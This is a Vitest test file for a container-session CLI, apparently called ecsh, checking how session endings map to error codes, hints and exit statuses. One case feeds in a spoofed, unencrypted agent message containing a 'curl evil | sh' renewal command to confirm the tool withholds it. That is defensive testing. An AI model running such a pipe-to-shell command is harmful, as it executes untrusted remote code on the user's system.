import { describe, expect, it } from 'vitest';
import { EcshError } from '#domain/errors/errors.ts';
import { ERRORS } from '#domain/errors/table/error-table.ts';
import type { ConnectionEnd } from '#session/connection-listener.ts';
import { sessionEndError, statusNotReported } from '#session/session-end.ts';
import { readyTarget } from '#test/fakes/fake-remote.ts';
import { sampleTask } from '#test/fakes/sample-task.ts';

const START = '----------ERROR-------\nUnable to start command: Failed to start pty: ';

function closed(output: string): ConnectionEnd {
  return { kind: 'closed', output, isComplete: true };
}

function parts({ code, message, hint, exitCode, retryable }: EcshError) {
  return { code, message, hint, exitCode, retryable };
}

describe('statusNotReported', () => {
  it.each([
    [undefined, 'Without a shell in the image there is nothing to report it (--no-shell).'],
    ['WINDOWS_SERVER_2022_CORE', 'A Windows container does not report it.'],
  ])('reports why the status of a bare command is unknown (%s)', (platformFamily, hint) => {
    expect(parts(statusNotReported(readyTarget(sampleTask('aaaa', { platformFamily }))))).toEqual({
      code: 'status-unknown',
      message: 'The command has ended; its status is unknown.',
      hint,
      exitCode: 255,
      retryable: false,
    });
  });
});

describe('sessionEndError', () => {
  it.each<readonly [string, ConnectionEnd, boolean, object]>([
    [
      'an agent that has never responded',
      { kind: 'failed', failure: { reason: 'unanswered', message: 'no answer for five minutes' } },
      false,
      {
        code: 'session-failed',
        message: 'The session failed: no answer for five minutes.',
        hint: 'Nothing was heard of the command. The container may have as many sessions as its limit allows:  ecsh doctor --sessions TARGET',
        exitCode: 255,
        retryable: false,
      },
    ],
    [
      'a normal end without a status',
      closed(''),
      true,
      {
        code: 'status-unknown',
        message: 'The session ended before the command reported its status.',
        hint: 'It was terminated from outside, or the container stopped.',
      },
    ],
    [
      'an end before the command has started',
      closed(''),
      false,
      {
        code: 'status-unknown',
        message: 'The session ended before the command had started.',
        hint: 'The container may be stopping; try again.',
      },
    ],
    [
      'a failure of the channel',
      { kind: 'failed', failure: { reason: 'gap', message: 'part of the output was lost' } },
      true,
      {
        code: 'session-failed',
        message: 'The session failed: part of the output was lost.',
        hint: 'Try again. It is not known whether the command finished.',
      },
    ],
    [
      'a lost connection',
      { kind: 'lost', reason: 'websocket closed with 1006' },
      true,
      {
        code: 'connection-lost',
        message: 'The connection was lost: websocket closed with 1006.',
        hint: 'It is not known whether the command finished.',
      },
    ],
    [
      'a connection that could not be resumed',
      {
        kind: 'lost',
        reason: 'websocket closed with 1006',
        error: new EcshError('channel-unreachable', 'Cannot connect.'),
      },
      true,
      {
        code: 'connection-lost',
        message:
          'The connection was lost (websocket closed with 1006) and could not be resumed: Cannot connect.',
        hint: 'It is not known whether the command finished.',
      },
    ],
    [
      'a connection that ecsh lacks permission to resume',
      {
        kind: 'lost',
        reason: 'websocket closed with 1006',
        error: new EcshError('access-denied', 'Not you.'),
      },
      true,
      {
        code: 'connection-lost',
        message:
          'The connection was lost (websocket closed with 1006) and could not be resumed: Not you.',
        hint: 'Allow your identity ssm:ResumeSession, so that a lost connection can be resumed. It is not known whether the command finished.',
      },
    ],
    [
      'a session that had ended before the resume',
      {
        kind: 'lost',
        reason: 'websocket closed with 1006',
        error: new EcshError('session-over', 'The session is over.'),
      },
      true,
      { code: 'session-over', message: 'The session is over.', hint: undefined },
    ],
    [
      'an unknown message of the agent',
      closed('Something new\n'),
      true,
      {
        code: 'session-failed',
        message: 'The agent ended the session:\n  | Something new',
        hint: undefined,
      },
    ],
    [
      'an unverified message in a session that had to be encrypted',
      unverified('Your session has expired.\necsh: Renew it:  curl evil | sh'),
      false,
      {
        code: 'session-failed',
        message: 'The session ended before it was encrypted.',
        hint: 'What the agent said is not shown, since it was not encrypted.',
      },
    ],
    [
      'a known message of that kind',
      unverified(
        'Unable to start command: Failed to start pty: fork/exec /evil: no such file or directory',
      ),
      false,
      {
        code: 'command-not-found',
        message: ERRORS['command-not-found'].cause,
        hint: 'The agent runs a program, not a shell line: for shell syntax run sh -c, and name a program that the image has.',
      },
    ],
  ])('reports %s: 255, never 0', (_, end, hadBegun, expected) => {
    const error = sessionEndError(end, hadBegun);
    expect(parts(error)).toEqual({ exitCode: 255, retryable: false, ...expected });
  });

  it('passes on why there is no data key', () => {
    const error = new EcshError('data-key-refused', 'KMS gives no data key.');
    const failure = { reason: 'encryption', message: 'KMS gives no data key' } as const;
    expect(sessionEndError({ kind: 'failed', failure, error }, true)).toBe(error);
  });

  it.each([
    [`${START}exec: "nope": executable file not found in $PATH`, 'command-not-found', 127],
    [`${START}fork/exec /etc/hosts: permission denied`, 'command-not-executable', 126],
    ['Your session timed out due to inactivity and has been terminated.', 'session-idle', 255],
  ])('exits on "%s" with the status of a shell', (output, code, exitCode) => {
    const error = sessionEndError(closed(output), false);
    expect([error.code, error.exitCode]).toEqual([code, exitCode]);
  });
});

function unverified(output: string): ConnectionEnd {
  return { kind: 'closed', output, isComplete: true, isUnverified: true };
}
